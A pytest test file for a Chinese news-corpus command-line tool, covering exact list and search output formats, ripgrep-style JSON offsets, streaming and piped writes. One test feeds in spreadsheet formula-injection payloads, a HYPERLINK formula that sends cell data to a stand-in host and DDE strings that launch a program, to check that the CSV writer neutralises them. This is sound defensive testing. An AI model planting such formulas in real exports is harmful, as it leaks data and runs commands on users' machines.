"""The printer: exact row formats, headers, streaming, ripgrep's JSON, and check's lines."""

from __future__ import annotations

import base64
import io
import json
import time
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from newscli import cli
from newscli.article import Article, Block, BlockKind, Summary, short_id
from newscli.check import CheckReport
from newscli.corpus import load_corpus
from newscli.load import load_articles
from newscli.printer import (
    COLUMNS,
    check_lines,
    csv_cell,
    matched_lines,
    write_list,
    write_rows,
    write_search_events,
)
from newscli.search import Matcher, Query, run_query

runner = CliRunner()
COLUMNS_WITHOUT_PATH = "id,published,archived,outlet,title,chars,author,script,tags,published_at"


def run(*args: str) -> str:
    result = runner.invoke(cli.app, list(args))
    assert result.exit_code in (0, 1), result.stderr
    return result.stdout


def seeds() -> list[Article]:
    return load_articles(load_corpus(None)).articles


def events(text: str) -> list[dict[str, Any]]:
    return [json.loads(line) for line in text.split("\n") if line]


# --- exact output of list on the seeds --------------------------------------------------------


def test_list_tsv_exactly() -> None:
    assert run("list", "-f", "tsv") == (
        "id\tpublished\toutlet\ttitle\tchars\n"
        "dc6d1d42a40981a9\t2024-06-19\t德国之声\t普京会金正恩 朝俄签订防卫互助协定\t1068\n"
        "38cea08e8c8c52de\t2022-08-15\t德国之声\t朝鮮官媒：普京致函金正恩 稱將擴大雙邊關係\t1786\n"
    )
    assert run("list", "-f", "tsv", "--columns", COLUMNS_WITHOUT_PATH, "--limit", "1") == (
        "id\tpublished\tarchived\toutlet\ttitle\tchars\tauthor\tscript\ttags\tpublished_at\n"
        "dc6d1d42a40981a9\t2024-06-19\t2024-06-19\t德国之声\t普京会金正恩 朝俄签订防卫互助协定"
        "\t1068\t\tsimplified\t\t2024-06-19T12:42:32Z\n"
    )


def test_list_csv_exactly() -> None:
    assert run("list", "-f", "csv", "--columns", COLUMNS_WITHOUT_PATH) == (
        "id,published,archived,outlet,title,chars,author,script,tags,published_at\n"
        "dc6d1d42a40981a9,2024-06-19,2024-06-19,德国之声,普京会金正恩 朝俄签订防卫互助协定,"
        "1068,,simplified,,2024-06-19T12:42:32Z\n"
        "38cea08e8c8c52de,2022-08-15,2022-08-15,德国之声,朝鮮官媒：普京致函金正恩 稱將擴大雙邊關係,"
        "1786,,mixed,,2022-08-15T01:22:34Z\n"
    )


def test_list_json_exactly() -> None:
    assert run("list", "-f", "json") == (
        "[\n"
        '  {"id": "dc6d1d42a40981a9", "published_at": "2024-06-19T12:42:32Z", "outlet": "德国之声",'
        ' "title": "普京会金正恩 朝俄签订防卫互助协定", "chars": 1068},\n'
        '  {"id": "38cea08e8c8c52de", "published_at": "2022-08-15T01:22:34Z", "outlet": "德国之声",'
        ' "title": "朝鮮官媒：普京致函金正恩 稱將擴大雙邊關係", "chars": 1786}\n'
        "]\n"
    )
    assert run("list", "-f", "json", "--since", "2099") == "[]\n"


def test_list_jsonl_exactly() -> None:
    assert run("list", "-f", "jsonl", "--columns", COLUMNS_WITHOUT_PATH, "--limit", "1") == (
        '{"id": "dc6d1d42a40981a9", "published_at": "2024-06-19T12:42:32Z",'
        ' "archived_at": "2024-06-19T12:47:03Z", "outlet": "德国之声",'
        ' "title": "普京会金正恩 朝俄签订防卫互助协定", "chars": 1068, "author": null,'
        ' "script": "simplified", "tags": []}\n'
    )


def test_tables_show_the_id_prefix_machines_get_the_full_id(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(cli, "_stdout_is_terminal", lambda: True)
    table = run("list").splitlines()
    assert table[1].startswith("dc6d1d42a4  2024-06-19") and "dc6d1d42a40981a9" not in table[1]
    assert table[1].endswith("1,068")
    ids = {row["id"] for row in json.loads(run("list", "-f", "json"))}
    assert ids == {"dc6d1d42a40981a9", "38cea08e8c8c52de"}


def test_tags_and_missing_values() -> None:
    article = replace(seeds()[0], tags=["朝鲜", "a,b"], author="", url="")
    out = io.StringIO()
    names = ["id", "tags", "author", "url"]
    write_rows(out, [article], [COLUMNS[n] for n in names], "jsonl")
    row = json.loads(out.getvalue())
    assert row["tags"] == ["朝鲜", "a,b"] and row["author"] is None and row["url"] is None
    out = io.StringIO()
    write_rows(out, [article], [COLUMNS[n] for n in names], "tsv", headers=False)
    assert out.getvalue() == f"{article.id}\t朝鲜,a,b\t\t\n"


# --- headers ----------------------------------------------------------------------------------


def test_tsv_and_csv_have_headers_unless_told_not_to() -> None:
    for form in ("tsv", "csv"):
        with_header = run("list", "-f", form, "--columns", "id,chars").splitlines()
        without = run("list", "-f", form, "--columns", "id,chars", "--no-headers").splitlines()
        separator = "\t" if form == "tsv" else ","
        assert with_header[0] == f"id{separator}chars"
        assert without == with_header[1:]
        assert without[0] == f"dc6d1d42a40981a9{separator}1068"
    counts = run("search", "金正恩", "-c").splitlines()
    assert counts[0] == "id\thits\ttitle"
    assert run("search", "金正恩", "-c", "--no-headers").splitlines() == counts[1:]
    assert counts[1] == "dc6d1d42a40981a9\t11\t普京会金正恩 朝俄签订防卫互助协定"


def test_a_header_even_when_nothing_is_listed() -> None:
    assert run("list", "-f", "csv", "--since", "2099") == "id,published,outlet,title,chars\n"
    assert run("list", "-f", "csv", "--since", "2099", "--no-headers") == ""


# --- streaming --------------------------------------------------------------------------------


class Recorder(io.StringIO):
    """A stream that notes, for every write, how many rows had been made by then."""

    def __init__(self, made: list[int]) -> None:
        super().__init__()
        self.made = made
        self.writes: list[tuple[int, str]] = []

    def write(self, text: str) -> int:
        self.writes.append((self.made[0], text))
        return super().write(text)


def lazy(items: list[Any], made: list[int]) -> Iterator[Any]:
    for item in items:
        made[0] += 1
        yield item


@pytest.mark.parametrize("form", ["tsv", "csv", "json", "jsonl", "ids"])
def test_rows_are_written_as_they_are_made(form: str) -> None:
    made = [0]
    out = Recorder(made)
    articles = seeds() * 3
    write_list(out, lazy(articles, made), ["id", "title"], form)
    first_row = next(made_then for made_then, text in out.writes if "dc6d1d42a4" in text)
    assert first_row == 1, "the first row must be out before the second is made"
    assert made[0] == len(articles)


def test_search_events_are_written_as_results_arrive() -> None:
    made = [0]
    out = Recorder(made)
    results = list(run_query(seeds(), Query((Matcher("金正恩"),))))
    write_search_events(
        out, lazy(results, made), context=10, searched=lambda: 2, started=time.perf_counter()
    )
    first_end = next(i for i, (_, text) in enumerate(out.writes) if '"type": "end"' in text)
    assert out.writes[first_end][0] == 1
    summary = json.loads(out.writes[-1][1])
    assert summary["data"]["stats"]["searches"] == 2  # read once the results are exhausted


# --- ripgrep's JSON -----------------------------------------------------------------------------


def _search_json(*args: str) -> list[dict[str, Any]]:
    return events(run("search", *args, "--json"))


def test_search_json_is_ripgreps_format() -> None:
    found = _search_json("雙邊關係")
    assert [e["type"] for e in found] == ["begin", "match", "match", "match", "end", "summary"]
    begin = found[0]["data"]
    assert begin == {
        "path": {"text": begin["path"]["text"]},
        "id": "38cea08e8c8c52de",
        "title": "朝鮮官媒：普京致函金正恩 稱將擴大雙邊關係",
        "outlet": "德国之声",
        "published_at": "2022-08-15T01:22:34Z",
    }
    assert begin["path"]["text"].endswith("000_a72835dd61d86983.txt")
    match = found[2]["data"]
    assert match["line_number"] == 5 and match["absolute_offset"] == 122
    assert match["submatches"][0]["start"] == 268 and match["submatches"][0]["end"] == 280
    assert match["submatches"][0]["match"] == {"text": "雙邊關係"}
    end = found[-2]["data"]
    assert end["binary_offset"] is None and end["id"] == begin["id"]
    assert end["stats"]["matches"] == 3 and end["stats"]["matched_lines"] == 3
    assert end["stats"]["bytes_searched"] == 5266
    summary = found[-1]["data"]
    assert summary["stats"]["searches"] == 2 and summary["stats"]["searches_with_match"] == 1
    assert set(summary["elapsed_total"]) == {"secs", "nanos", "human"}
    assert summary["elapsed_total"]["human"].endswith("s")


def _check_offsets(found: list[dict[str, Any]], texts: dict[str, str]) -> int:
    checked = 0
    for event in found:
        if event["type"] != "match":
            continue
        data = event["data"]
        text = texts[data["id"]]
        lines = data["lines"]["text"]
        raw = text.encode("utf-8")
        # absolute_offset is where the lines start in the UTF-8 text; line_number counts from 1
        start = data["absolute_offset"]
        assert raw[start : start + len(lines.encode())].decode() == lines
        assert raw[:start].count(b"\n") + 1 == data["line_number"]
        for sub in data["submatches"]:
            matched = sub["match"]["text"]
            # rg's start/end are BYTE offsets into lines.text
            assert lines.encode()[sub["start"] : sub["end"]].decode() == matched
            assert lines[sub["line_chars"]["start"] : sub["line_chars"]["end"]] == matched
            assert text[sub["offsets"]["start"] : sub["offsets"]["end"]] == matched
            snippet = sub["snippet"]
            assert snippet["text"][snippet["start"] : snippet["end"]] == matched.replace("\n", " ")
            checked += 1
    return checked


def test_byte_offsets_slice_the_utf8_line_to_the_match() -> None:
    texts = {a.id: a.text for a in seeds()}
    assert (
        _check_offsets(_search_json("-e", "金正恩", "-e", "KCNA", "-e", "「"), texts) == 43
    )  # 11 + 25 金正恩, 1 KCNA, 6 「


def test_byte_offsets_on_real_posts(corpus_slice: Path) -> None:
    corpus = ["--corpus", str(corpus_slice)]
    texts = {a.id: a.text for a in load_articles(load_corpus(str(corpus_slice))).articles}
    assert _check_offsets(_search_json("-e", "美国", "-e", "川普", "-e", "é", *corpus), texts) > 50
    assert _check_offsets(_search_json("-r", "[。」]\\n", *corpus), texts) > 20


def test_matches_as_rg_13_prints_them() -> None:
    """Recorded from `rg --json -U -e 雙邊 -e '第二\\n最'` over this text (ripgrep 13.0.0)."""
    text = "標題 雙邊\n\n第一段 雙邊關係 and 雙邊\n\n第二\n最後"
    article = Article("0123456789abcdef", "/tmp/rgt.txt", "標題 雙邊")
    article = replace(article, blocks=[Block(BlockKind.PARAGRAPH, "第一段 雙邊關係 and 雙邊")])
    article.blocks.append(Block(BlockKind.PARAGRAPH, "第二\n最後"))
    assert article.text == text
    query = Query((Matcher("雙邊"), Matcher("第二\n最", regex=True)))
    out = io.StringIO()
    write_search_events(
        out, run_query([article], query), context=5, searched=1, started=time.perf_counter()
    )
    ours = [e["data"] for e in events(out.getvalue()) if e["type"] == "match"]
    assert [
        (
            e["lines"]["text"],
            e["line_number"],
            e["absolute_offset"],
            [(s["match"]["text"], s["start"], s["end"]) for s in e["submatches"]],
        )
        for e in ours
    ] == [
        ("標題 雙邊\n", 1, 0, [("雙邊", 7, 13)]),
        ("第一段 雙邊關係 and 雙邊\n", 3, 15, [("雙邊", 10, 16), ("雙邊", 27, 33)]),
        ("第二\n最後", 5, 50, [("第二\n最", 0, 10)]),
    ]
    end = next(e["data"] for e in events(out.getvalue()) if e["type"] == "end")
    assert end["stats"]["bytes_searched"] == 63 and end["stats"]["matched_lines"] == 4


def test_matched_lines_group_hits_per_line() -> None:
    from newscli.search import Hit

    text = "ab\ncd\nef"
    groups = list(matched_lines(text, [Hit(0, 1), Hit(1, 2), Hit(4, 7), Hit(7, 8)]))
    assert [(g.start, g.end, len(g.hits)) for g in groups] == [(0, 3, 2), (3, 8, 2)]


def test_a_path_that_is_not_utf8_is_given_as_bytes() -> None:
    path = "/tmp/bad\udcff名.txt"  # a file-name byte 0xff kept by surrogateescape
    article = replace(seeds()[0], path=path)
    out = io.StringIO()
    results = run_query([article], Query((Matcher("金正恩"),)))
    write_search_events(out, results, context=5, searched=1, started=time.perf_counter())
    begin = events(out.getvalue())[0]["data"]
    assert base64.b64decode(begin["path"]["bytes"]) == b"/tmp/bad\xff\xe5\x90\x8d.txt"


def test_no_match_is_a_summary_alone_and_exit_1() -> None:
    result = runner.invoke(cli.app, ["search", "不存在的詞", "--json"])
    assert result.exit_code == 1
    found = events(result.stdout)
    assert [e["type"] for e in found] == ["summary"]
    assert found[0]["data"]["stats"]["matches"] == 0


# --- check ------------------------------------------------------------------------------------


def test_check_lists_every_duplicate_url_or_says_how_many_more() -> None:
    duplicates = {f"https://x.org/{n:02d}": [f"/c/{n}a.txt", f"/c/{n}b.txt"] for n in range(25)}
    report = CheckReport("/c", 50, 50, duplicates=duplicates)
    lines = list(check_lines(report))
    urls = [line for line in lines if line.startswith("  https://")]
    assert len(urls) == 20
    assert "  … 5 more urls (--json lists all)" in lines
    assert len(list(check_lines(report, shown=30))) == len(lines) - 1 + 5 * 3
    legacy = CheckReport(
        "/c", 30, 30, legacy_encoded=[(f"/c/{n}.txt", "gb18030") for n in range(23)]
    )
    assert "    … 3 more files (--json lists all)" in list(check_lines(legacy))


# --- CSV cells a spreadsheet would run ----------------------------------------------------------


def test_csv_cells_that_a_spreadsheet_would_run_get_a_leading_quote() -> None:
    import csv

    hostile = [
        '=HYPERLINK("http://evil.example/?x="&A1,"點我")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
    ]
    articles = [replace(seeds()[0], title=title, author="-5") for title in hostile]
    out = io.StringIO()
    assert write_list(out, articles, ["title", "author", "chars"], "csv") == len(hostile)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert [row[0] for row in rows[1:]] == ["'" + title for title in hostile]
    assert {row[1] for row in rows[1:]} == {"-5"}  # a plain negative number stays a number
    assert csv_cell("\r=1+1") == "'\r=1+1"  # (write_list shows a CR as ␍ before that)
    plain = io.StringIO()
    write_list(plain, seeds(), ["title"], "csv")
    assert "'" not in plain.getvalue()  # ordinary titles are untouched
    tsv = io.StringIO()
    write_list(tsv, articles[:1], ["title"], "tsv")
    assert tsv.getvalue().split("\n")[1] == hostile[0]  # TSV stays exact


# --- search --format kwic -----------------------------------------------------------------------


def test_kwic_lines_are_the_text_as_written() -> None:
    from newscli.printer import kwic_lines

    body = "第一段講川普。\n\n第二段：特朗普訪台，川普"
    article = Article(
        id="c" * 16,
        path="/c.md",
        title="川普標題",
        outlet="中央社",
        blocks=[Block(BlockKind.PARAGRAPH, part) for part in body.split("\n\n")],
    )
    results = list(run_query([article], Query((Matcher("川普"), Matcher("特朗普")))))
    lines = list(kwic_lines(results, 4))
    assert [(line.left, line.hit, line.right) for line in lines] == [
        ("", "川普", "標題  "),
        ("第一段講", "川普", "。  第"),
        ("第二段：", "特朗普", "訪台，川"),
        ("普訪台，", "川普", ""),
    ]
    assert {line.outlet for line in lines} == {"中央社"}


def test_kwic_formats_on_the_command_line() -> None:
    tsv = run("search", "金正恩", "--format", "kwic", "-C", "5")
    rows = [line.split("\t") for line in tsv.split("\n") if line]
    assert rows[0] == ["left", "hit", "right", "id", "date", "outlet"]
    counted = run("search", "金正恩", "-c", "--no-headers")
    total = sum(int(line.split("\t")[1]) for line in counted.split("\n") if line)
    assert len(rows) - 1 == total and all(row[1] == "金正恩" for row in rows[1:])
    assert all(len(row[0]) <= 5 and len(row[2]) <= 5 for row in rows[1:])
    jsonl = [
        json.loads(line) for line in run("search", "金正恩", "-f", "kwic-jsonl").split("\n") if line
    ]
    assert len(jsonl) == total
    assert set(jsonl[0]) == {"left", "hit", "right", "id", "published_at", "outlet"}
    csv_text = run("search", "金正恩", "-f", "kwic-csv", "--no-headers")
    assert len([line for line in csv_text.split("\n") if line]) == total


# --- search: plain lines for a pipe -------------------------------------------------------------

HOSTILE_TEXTS = [
    "台灣標題\n\n台灣在北。台灣\n在南\n\n\n台灣，台灣台灣。",
    "台灣\t一\r二\x1b[31m台灣\x1b[0m\u202e台灣\udcff末",
    "標題\n\n" + "長" * 80 + "台灣" + "長" * 80,
    "台灣",
    "\n\n台灣\n\n",
    "短\n\n台灣\n台灣\n\n",
]


@pytest.mark.parametrize("text", HOSTILE_TEXTS)
@pytest.mark.parametrize("context", [0, 1, 3, 30])
def test_snippet_block_is_snippet_line_for_every_hit(text: str, context: int) -> None:
    """The one-pass block of a piped search is, line for line, what snippet_line makes of
    each hit: windows, … where cut, paragraph ends, tabs/CR/escapes/bidi/surrogates shown."""
    from conftest import snippet_line

    from newscli.printer import snippet_block
    from newscli.search import Hit

    for query in ("台灣", "台", "灣\n", "在", "\n\n台"):
        hits = Matcher(query).find(text)
        expected = "".join("\t" + snippet_line(text, hit, context) + "\n" for hit in hits)
        assert snippet_block(text, hits, context) == expected
    spans = [Hit(0, len(text)), Hit(len(text) - 1, len(text))]  # a regex hit may span lines
    expected = "".join("\t" + snippet_line(text, hit, context) + "\n" for hit in spans)
    assert snippet_block(text, spans, context) == expected
    assert snippet_block(text, [], context) == ""


def test_piped_search_makes_no_object_per_hit(monkeypatch: pytest.MonkeyPatch) -> None:
    """Lines for a pipe are built per article (snippet_block): search.snippet, which makes
    a Snippet per hit, is not called for them."""
    from newscli import search

    def per_hit(*args: object, **kwargs: object) -> None:
        raise AssertionError("a Snippet was made for a piped line")

    monkeypatch.setattr(search, "snippet", per_hit)
    text = run("search", "朝鮮", "-C", "5")
    assert text.count("\n\t") >= 2 and "朝鮮" in text


def test_piped_search_writes_in_large_chunks() -> None:
    """Whole articles gathered per write, not a write per line: few writes, same text."""
    from conftest import search_result_lines

    from newscli.printer import FIRST_CHUNK, WRITE_CHUNK, write_search_lines
    from newscli.search import TextHits

    article = seeds()[0]
    found = TextHits(Summary.of(article), article.text, Matcher("的").find(article.text))
    writes: list[str] = []

    class Recorder(io.StringIO):
        def write(self, text: str) -> int:
            writes.append(text)
            return len(text)

    assert write_search_lines(Recorder(), [found] * 50, 30) == 50
    lines = "".join(line + "\n" for line in search_result_lines(found, 30))
    assert "".join(writes) == lines * 50
    # The first article alone (for the first byte), then chunks growing from FIRST_CHUNK
    # to WRITE_CHUNK characters (the last one holds what is left).
    assert len(found.hits) > 3 and writes[0] == lines
    assert all(FIRST_CHUNK <= len(chunk) < WRITE_CHUNK + len(lines) for chunk in writes[1:-1])
    assert len(writes) < 10


@pytest.mark.parametrize(
    "title", ["普通標題", "tab\there", "new\nline", "cr\rx \x1b[2J \u202e \udcff", ""]
)
def test_search_result_block_is_its_lines(title: str) -> None:
    """One article's block for a pipe is search_result_lines joined: the header's fields
    made safe in one call only when that cannot join or split them."""
    from conftest import search_result_lines

    from newscli.printer import search_result_block
    from newscli.search import TextHits

    article = replace(seeds()[0], title=title)
    found = TextHits(Summary.of(article), article.text, Matcher("的").find(article.text))
    lines = "".join(line + "\n" for line in search_result_lines(found, 30))
    assert search_result_block(found, 30) == lines
    assert lines.count("\n") == len(found.hits) + 1


def test_piped_search_flushes_the_first_article_before_asking_for_the_next() -> None:
    """The first result is out at once (the next may take a scan of the whole index)."""
    from newscli.printer import write_search_lines
    from newscli.search import TextHits

    article = seeds()[0]
    found = TextHits(Summary.of(article), article.text, Matcher("的").find(article.text))
    flushed: list[str] = []

    class Pipe(io.StringIO):
        def flush(self) -> None:
            flushed.append(self.getvalue())

    out = Pipe()

    def results() -> Iterator[TextHits]:
        yield found
        assert flushed and flushed[0].startswith(short_id(article.id))
        yield found

    assert write_search_lines(out, results(), 30) == 2
    assert out.getvalue() == flushed[0] * 2


@pytest.mark.parametrize("text", HOSTILE_TEXTS)
@pytest.mark.parametrize("outlet", ["", "BBC", "bad\toutlet\n\x1b"])
def test_kwic_tsv_is_the_rows_of_kwic_lines(text: str, outlet: str) -> None:
    """`--format kwic` is built per article (kwic_block): the same text as KWIC_COLUMNS
    written as tsv rows from kwic_lines, whatever the text, hits and outlet hold."""
    from newscli.printer import KWIC_COLUMNS, kwic_lines, write_kwic
    from newscli.search import Hit, TextHits

    article = replace(seeds()[0], title="t", outlet=outlet)
    hits = [*Matcher("台灣").find(text), Hit(0, len(text))]
    found = [TextHits(Summary.of(article), text, hits)] * 2
    for context in (0, 2, 30):
        expected = io.StringIO()
        rows = write_rows(expected, kwic_lines(found, context), KWIC_COLUMNS, "tsv", headers=True)
        fast = io.StringIO()
        assert write_kwic(fast, found, context, "kwic", headers=True) == rows == 2 * len(hits)
        assert fast.getvalue() == expected.getvalue()


def test_kwic_tsv_makes_no_row_object_per_hit(monkeypatch: pytest.MonkeyPatch) -> None:
    from newscli import printer

    def per_hit(*args: object) -> None:
        raise AssertionError("a KwicLine per hit")

    monkeypatch.setattr(printer, "kwic_lines", per_hit)
    text = run("search", "朝鮮", "--format", "kwic", "-C", "3")
    assert text.startswith("left\thit\tright\tid\tdate\toutlet\n") and "\t朝鮮\t" in text


def test_a_closed_pipe_stops_the_piped_search_within_a_few_articles() -> None:
    """`| head`: the writes after the first article start small, so a reader that has gone
    is noticed after a few articles, not after WRITE_CHUNK characters of them."""
    from newscli.printer import FIRST_CHUNK, search_result_block, write_search_lines
    from newscli.search import TextHits

    article = seeds()[0]
    found = TextHits(Summary.of(article), article.text, Matcher("朝").find(article.text))
    asked = 0

    def results() -> Iterator[TextHits]:
        nonlocal asked
        for _ in range(200):
            asked += 1
            yield found

    class ClosedAfterFirst(io.StringIO):
        def write(self, text: str) -> int:
            if self.getvalue():
                raise BrokenPipeError
            return super().write(text)

    with pytest.raises(BrokenPipeError):
        write_search_lines(ClosedAfterFirst(), results(), 30)
    block = len(search_result_block(found, 30))
    assert asked <= 1 + FIRST_CHUNK // block + 1 < 10
